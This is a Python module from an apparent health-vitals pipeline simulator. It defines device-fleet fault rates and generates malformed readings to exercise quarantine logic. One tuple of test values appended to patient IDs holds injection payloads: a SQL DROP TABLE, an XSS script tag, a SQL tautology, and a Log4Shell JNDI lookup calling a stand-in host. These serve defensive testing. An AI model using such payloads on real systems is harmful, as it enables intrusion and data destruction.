"""Imperfections of a real device fleet: their rates, and the malformed records the platform must
quarantine.

Every malformed kind breaks the reading contract in exactly one clearly named way. None of them
contains a raw newline byte (0x0A), so the JSONL sink can store them one per line unchanged.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum
from typing import Final

import numpy as np
import orjson

from simulator.readings import Reading, encode
from vitals_lake.contract import (
    BLOOD_PRESSURE,
    DEVICE_ID,
    DIASTOLIC,
    HEART_RATE,
    PATIENT_ID,
    SPO2,
    SYSTOLIC,
    TEMPERATURE,
    TIMESTAMP,
)


class MalformedKind(StrEnum):
    TRUNCATED_JSON = "truncated_json"
    NOT_JSON = "not_json"
    NON_UTF8 = "non_utf8"
    JSON_ARRAY = "json_array"
    HEART_RATE_NOT_NUMERIC = "heart_rate_not_numeric"
    MISSING_PATIENT_ID = "missing_patient_id"
    MISSING_TIMESTAMP = "missing_timestamp"
    TIMESTAMP_WITHOUT_OFFSET = "timestamp_without_offset"
    UNPARSEABLE_TIMESTAMP = "unparseable_timestamp"
    HEART_RATE_OUT_OF_RANGE = "heart_rate_out_of_range"
    SPO2_ABOVE_100 = "spo2_above_100"
    NEGATIVE_TEMPERATURE = "negative_temperature"
    NAN_LITERAL = "nan_literal"
    SYSTOLIC_NOT_ABOVE_DIASTOLIC = "systolic_not_above_diastolic"
    PATIENT_ID_INJECTION = "patient_id_injection"


MALFORMED_KINDS: Final = tuple(MalformedKind)


@dataclass(frozen=True, kw_only=True)
class FaultRates:
    """How imperfect the fleet is. Rates are per reading unless named per device or per tick.

    Defaults are small but non-zero so a demo shows quarantine, de-duplication and late data.
    """

    duplicate: float = 0.01  # a reading re-sent byte for byte a little later
    malformed: float = 0.005  # a reading replaced by a record that breaks the contract
    late: float = 0.01  # sent ``late_seconds`` after its timestamp
    out_of_order: float = 0.02  # held back one to two intervals, so later readings overtake it
    skewed_device: float = 0.05  # per device: its clock is off by ``skew_seconds``
    local_offset_device: float = 0.15  # per device: writes timestamps in a local offset (same instant)
    dropout: float = 0.0005  # per device and tick: chance a gap of ``dropout_seconds`` starts
    late_seconds: tuple[float, float] = (20.0, 120.0)  # within the pipeline's allowed lateness
    duplicate_delay_seconds: tuple[float, float] = (0.5, 30.0)
    skew_seconds: tuple[float, float] = (2.0, 90.0)
    dropout_seconds: tuple[float, float] = (30.0, 600.0)

    def __post_init__(self) -> None:
        for name in (
            "duplicate",
            "malformed",
            "late",
            "out_of_order",
            "skewed_device",
            "local_offset_device",
            "dropout",
        ):
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} rate must be within [0, 1], got {value}")
        if self.late + self.out_of_order > 1.0:
            raise ValueError("late + out_of_order rates must not exceed 1")
        for name in ("late_seconds", "duplicate_delay_seconds", "skew_seconds", "dropout_seconds"):
            lo, hi = getattr(self, name)
            if not 0.0 <= lo <= hi:
                raise ValueError(f"{name} must be (low, high) with 0 <= low <= high, got {(lo, hi)}")


_INJECTIONS: Final = (
    "'; DROP TABLE silver_patient_vitals; --\x00",
    "\x1b[2J\x1b[H<script>alert(1)</script>",
    '" OR 1=1 --\r\n',
    "${jndi:ldap://evil.example/a}\x07",
)
_NOT_JSON: Final = (
    "HR={hr};SPO2={spo2};T={temp};PID={pid}",
    '<reading patient="{pid}" hr="{hr}"/>',
    "{pid},{hr},{spo2},{temp}",
)
_BAD_TIMESTAMPS: Final = (
    "2026-02-30T08:15:00.000+00:00",  # no 30 February
    "2026-11-22T25:61:00.000+00:00",
    "yesterday at noon",
    "1700000000000",  # epoch millis: not ISO 8601
)


def malform(kind: MalformedKind, reading: Reading, rng: np.random.Generator) -> bytes:
    """The bytes of ``reading`` broken in the way ``kind`` names."""
    r = dict(reading)
    pick = int(rng.integers(0, 1 << 16))
    if kind is MalformedKind.TRUNCATED_JSON:
        data = encode(r)
        return data[: 1 + pick % (len(data) - 2)]  # any proper prefix of an object is invalid JSON
    if kind is MalformedKind.NOT_JSON:
        template = _NOT_JSON[pick % len(_NOT_JSON)]
        text = template.format(hr=r[HEART_RATE], spo2=r[SPO2], temp=r[TEMPERATURE], pid=r[PATIENT_ID])
        return text.encode()
    if kind is MalformedKind.NON_UTF8:
        # A Latin-1 micro sign in the device id: byte 0xB5 alone is not UTF-8.
        r[DEVICE_ID] = f"{r[DEVICE_ID]}-µ"
        return encode(r).replace("µ".encode(), "µ".encode("latin-1"))
    if kind is MalformedKind.JSON_ARRAY:
        return orjson.dumps([r])
    if kind is MalformedKind.HEART_RATE_NOT_NUMERIC:
        r[HEART_RATE] = ("seventy-two", "--", "HR?", f"{r[HEART_RATE]} bpm")[pick % 4]
        return encode(r)
    if kind is MalformedKind.MISSING_PATIENT_ID:
        del r[PATIENT_ID]
        return encode(r)
    if kind is MalformedKind.MISSING_TIMESTAMP:
        del r[TIMESTAMP]
        return encode(r)
    if kind is MalformedKind.TIMESTAMP_WITHOUT_OFFSET:
        r[TIMESTAMP] = str(r[TIMESTAMP])[:-6]  # drop the "+hh:mm"
        return encode(r)
    if kind is MalformedKind.UNPARSEABLE_TIMESTAMP:
        r[TIMESTAMP] = _BAD_TIMESTAMPS[pick % len(_BAD_TIMESTAMPS)]
        return encode(r)
    if kind is MalformedKind.HEART_RATE_OUT_OF_RANGE:
        r[HEART_RATE] = (999, 0, -1, 420)[pick % 4]
        return encode(r)
    if kind is MalformedKind.SPO2_ABOVE_100:
        r[SPO2] = round(100.5 + (pick % 200) / 10, 1)
        return encode(r)
    if kind is MalformedKind.NEGATIVE_TEMPERATURE:
        r[TEMPERATURE] = -float(r[TEMPERATURE])
        return encode(r)
    if kind is MalformedKind.NAN_LITERAL:
        # JSON has no NaN; orjson would write null, so splice the bare literal in.
        r[TEMPERATURE] = "__nan__"
        return encode(r).replace(b'"__nan__"', b"NaN")
    if kind is MalformedKind.SYSTOLIC_NOT_ABOVE_DIASTOLIC:
        if BLOOD_PRESSURE in r:
            sys_, dia = (int(x) for x in str(r[BLOOD_PRESSURE]).split("/"))
            r[BLOOD_PRESSURE] = f"{dia}/{sys_}" if pick % 2 else f"{dia}/{dia}"
        else:
            r[SYSTOLIC], r[DIASTOLIC] = (r[DIASTOLIC], r[SYSTOLIC]) if pick % 2 else (r[DIASTOLIC],) * 2
        return encode(r)
    if kind is MalformedKind.PATIENT_ID_INJECTION:
        r[PATIENT_ID] = f"{r[PATIENT_ID]}{_INJECTIONS[pick % len(_INJECTIONS)]}"
        return encode(r)
    raise AssertionError(f"unhandled malformed kind {kind}")
